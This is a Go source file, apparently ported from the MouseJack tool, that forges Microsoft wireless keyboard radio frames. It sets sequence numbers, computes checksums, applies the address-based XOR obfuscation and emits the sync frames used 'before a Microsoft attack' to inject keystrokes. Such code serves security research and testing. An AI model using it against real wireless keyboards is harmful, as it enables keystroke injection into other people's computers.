package hid

// MicrosoftEncoder builds 19-byte Microsoft wireless keyboard frames,
// tracking the rolling sequence number across calls the way
// original_source's msTransmit does via its package-level msSequence_
// counter. Grounded on MouseJack.cpp's msTransmit/msCrypt/msChecksum.
type MicrosoftEncoder struct {
	seq       uint16
	Encrypted bool
	Address   [5]byte
}

func NewMicrosoftEncoder(addr [5]byte, encrypted bool) *MicrosoftEncoder {
	return &MicrosoftEncoder{Address: addr, Encrypted: encrypted}
}

// Layout: [0]=0x08 frame type, [1..3] padding, [4..5] sequence
// little-endian, [6]=0x43 keyboard-data flag, [7]=modifier,
// [8] reserved, [9]=keycode, [10..17] padding, [18] checksum.
func (m *MicrosoftEncoder) nextFrame(modifier Modifier, keycode byte) []byte {
	frame := make([]byte, 19)
	frame[0] = 0x08
	frame[4] = byte(m.seq)
	frame[5] = byte(m.seq >> 8)
	frame[6] = 0x43
	frame[7] = byte(modifier)
	frame[9] = keycode
	m.seq++
	microsoftChecksum(frame)
	if m.Encrypted {
		microsoftCrypt(frame, m.Address)
	}
	return frame
}

// KeyDownUp returns the key-down frame followed by its matching
// key-up (null keystroke) frame, each consuming one sequence number —
// msTransmit always emits both, so callers never send a bare release.
func (m *MicrosoftEncoder) KeyDownUp(modifier Modifier, keycode byte) (down, up []byte) {
	down = m.nextFrame(modifier, keycode)
	up = m.nextFrame(ModNone, KeyNone)
	return down, up
}

// SyncFrames returns n null key-down frames, used to align the
// dongle's own sequence tracking before real keystrokes are sent
// (the original's 6-null-frame sync before a Microsoft attack).
func (m *MicrosoftEncoder) SyncFrames(n int) [][]byte {
	out := make([][]byte, n)
	for i := range out {
		out[i] = m.nextFrame(ModNone, KeyNone)
	}
	return out
}

func microsoftChecksum(frame []byte) {
	var cksum byte
	for i := 0; i < len(frame)-1; i++ {
		cksum ^= frame[i]
	}
	frame[len(frame)-1] = ^cksum
}

// microsoftCrypt is the Microsoft wireless keyboard's XOR obfuscation:
// every byte from index 4 onward is XORed with the paired device
// address, cycling every 5 bytes.
func microsoftCrypt(frame []byte, addr [5]byte) {
	for i := 4; i < len(frame); i++ {
		frame[i] ^= addr[(i-4)%5]
	}
}
